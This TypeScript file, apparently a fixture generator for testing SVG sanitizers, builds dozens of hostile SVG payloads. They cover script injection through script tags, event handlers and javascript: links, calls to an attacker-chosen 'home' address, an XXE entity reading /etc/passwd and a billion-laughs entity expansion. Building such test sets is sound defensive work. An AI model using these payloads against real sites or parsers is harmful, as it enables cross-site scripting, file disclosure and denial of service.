/** Pictures that are programs: each tries to run something or to call home. `call` is what a script runs, `home` an address. */
export function svgPayloads({ call, home }: { call: string; home: string }): string[] {
  const svg = (inside: string, attributes = '') =>
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="99" height="99" ${attributes}>${inside}</svg>`;
  const html = (inside: string) =>
    svg(
      `<foreignObject width="99" height="99"><body xmlns="http://www.w3.org/1999/xhtml">${inside}</body></foreignObject>`,
    );
  const withDtd = (dtd: string, inside: string) =>
    `<?xml version="1.0"?><!DOCTYPE svg [${dtd}]>${svg(inside)}`;
  const data = (type: string, text: string) => `data:${type},${encodeURIComponent(text)}`;
  return [
    ...[
      `<script>${call}</script>`,
      `<script type="application/ecmascript"><![CDATA[${call}]]></script>`,
      `<script type="module">${call}</script>`,
      `<script href="${home}/script.js"/>`,
      `<script xlink:href="${data('text/javascript', call)}"/>`,
      `<g><h:script xmlns:h="http://www.w3.org/1999/xhtml">${call}</h:script></g>`,
      `<image href="${home}/image.png" onerror="${call}"/>`,
      `<image xlink:href="${home}/image.png"/>`,
      `<use href="${home}/use.svg#a"/>`,
      `<use xlink:href="${data('image/svg+xml', svg(`<script>${call}</script>`, 'id="a"'))}#a"/>`,
      `<a href="javascript:${call}"><rect width="99" height="99"/></a>`,
      `<animate attributeName="x" begin="0s" dur="1s" onbegin="${call}"/>`,
      `<set attributeName="x" to="9" begin="0s" onbegin="${call}"/>`,
      `<a id="a"><rect width="99" height="99"/></a><set href="#a" attributeName="href" to="javascript:${call}"/>`,
      `<style>@import url("${home}/style.css"); rect { fill: url("${home}/fill.svg#a") }</style><rect width="9" height="9"/>`,
      `<style>@font-face { font-family: a; src: url("${home}/font.woff") } text { font-family: a }</style><text y="20">a</text>`,
      `<filter id="f"><feImage href="${home}/filter.png"/></filter><rect width="99" height="99" filter="url(#f)"/>`,
      `<rect width="99" height="99" fill="url(${home}/paint.svg#a)" mask="url(${home}/mask.svg#a)"/>`,
      `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${call}</handler>`,
      `<metadata><h:link xmlns:h="http://www.w3.org/1999/xhtml" rel="stylesheet" href="${home}/link.css"/></metadata>`,
    ].map((inside) => svg(inside)),
    svg('', `onload="${call}"`),
    svg('', `onfocusin="${call}" tabindex="1" autofocus="true"`),
    ...[
      `<script>${call}</script>`,
      `<img src="${home}/img.png" onerror="${call}"/>`,
      `<iframe src="javascript:${call}"></iframe>`,
      `<iframe srcdoc="&lt;script>${call}&lt;/script>"></iframe>`,
      `<object data="${home}/object.html"></object>`,
      `<embed src="${home}/embed.html"/>`,
      `<form id="f" action="${home}/form"><input name="p"/></form><script>document.forms[0].submit()</script>`,
      `<meta http-equiv="refresh" content="0;url=${home}/refresh"/>`,
      `<link rel="stylesheet" href="${home}/link.css"/>`,
      `<video autoplay="" src="${home}/video.mp4" onerror="${call}"></video>`,
    ].map(html),
    `<?xml-stylesheet type="text/xsl" href="${home}/sheet.xsl"?>${svg('')}`,
    `<?xml-stylesheet type="text/css" href="${home}/sheet.css"?>${svg('')}`,
    withDtd(`<!ENTITY x SYSTEM "${home}/entity">`, '<text>&x;</text>'),
    withDtd(`<!ENTITY % y SYSTEM "${home}/dtd">%y;`, '<text>y</text>'),
    withDtd('<!ENTITY x SYSTEM "file:///etc/passwd">', '<text>&x;</text>'),
    withDtd(
      `<!ENTITY a "${'ha'.repeat(50)}"><!ENTITY b "${'&a;'.repeat(50)}"><!ENTITY c "${'&b;'.repeat(50)}"><!ENTITY d "${'&c;'.repeat(50)}">`,
      '<text>&d;</text>',
    ),
    `<!DOCTYPE svg PUBLIC "-//X//X" "${home}/public.dtd">${svg(`<script>${call}</script>`)}`,
  ];
}
